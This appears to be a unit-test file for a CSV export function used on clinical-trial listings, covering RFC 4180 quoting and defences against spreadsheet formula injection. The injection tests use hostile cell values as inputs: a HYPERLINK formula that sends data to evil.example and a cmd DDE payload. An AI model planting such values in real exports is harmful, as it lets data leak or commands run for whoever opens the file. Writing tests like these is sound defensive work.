import { csvField, toCsv } from './csv';

describe('toCsv (RFC 4180)', () => {
  it('writes a header row and one record per row, each ended by CRLF', () => {
    expect(
      toCsv(
        ['A', 'B'],
        [
          { A: 'x', B: 1 },
          { A: 'y', B: null },
        ],
      ),
    ).toBe('A,B\r\nx,1\r\ny,\r\n');
  });

  it('writes only the header when there are no rows', () => {
    expect(toCsv(['STUDYID', 'USUBJID'], [])).toBe('STUDYID,USUBJID\r\n');
  });

  it('takes values in column order and leaves missing ones empty', () => {
    expect(toCsv(['B', 'A', 'C'], [{ A: 'a', B: 'b' }])).toBe('B,A,C\r\nb,a,\r\n');
  });

  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['Rash, facial', '"Rash, facial"'],
    ['Pain "dull"', '"Pain ""dull"""'],
    ['"', '""""'],
    ['line one\nline two', '"line one\nline two"'],
    ['line one\r\nline two', '"line one\r\nline two"'],
    ['carriage\rreturn', '"carriage\rreturn"'],
    ['Not-a-formula: dash inside', 'Not-a-formula: dash inside'],
    [' leading and trailing spaces ', ' leading and trailing spaces '],
    ['Ünïcödé – ≥ 3 × ULN', 'Ünïcödé – ≥ 3 × ULN'],
    [0, '0'],
    [-2, '-2'],
    [null, ''],
    [undefined, ''],
  ])('field %p is written as %p', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  describe('formula injection (OWASP): a text cell a spreadsheet would run is prefixed with a quote and quoted', () => {
    it.each([
      ['=HYPERLINK("https://evil.example/?x="&A2,"Rash")', `"'=HYPERLINK(""https://evil.example/?x=""&A2,""Rash"")"`],
      ['=1+1', `"'=1+1"`],
      ['+1+1', `"'+1+1"`],
      ['-2+3', `"'-2+3"`],
      ['-2', `"'-2"`],
      ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
      ['\t=1+1', `"'\t=1+1"`],
      ['\r=1+1', `"'\r=1+1"`],
    ])('text %p is written as %p', (value, written) => {
      expect(csvField(value)).toBe(written);
    });

    it('leaves numbers numbers: a negative study day is written as is', () => {
      expect(csvField(-3)).toBe('-3');
      expect(csvField(-0.5)).toBe('-0.5');
    });

    it('escapes a malicious verbatim term in a listing row and keeps its negative AESTDY', () => {
      const row = { AETERM: "=cmd|' /C calc'!A0", AESTDY: -3, AETOXGR: '1' };
      expect(toCsv(['AETERM', 'AESTDY', 'AETOXGR'], [row])).toBe(`AETERM,AESTDY,AETOXGR\r\n"'=cmd|' /C calc'!A0",-3,1\r\n`);
    });
  });

  it('quotes a field with both a comma and a quote once, doubling the quote', () => {
    expect(toCsv(['AETERM'], [{ AETERM: 'Bruising, "below" injection site' }])).toBe('AETERM\r\n"Bruising, ""below"" injection site"\r\n');
  });
});
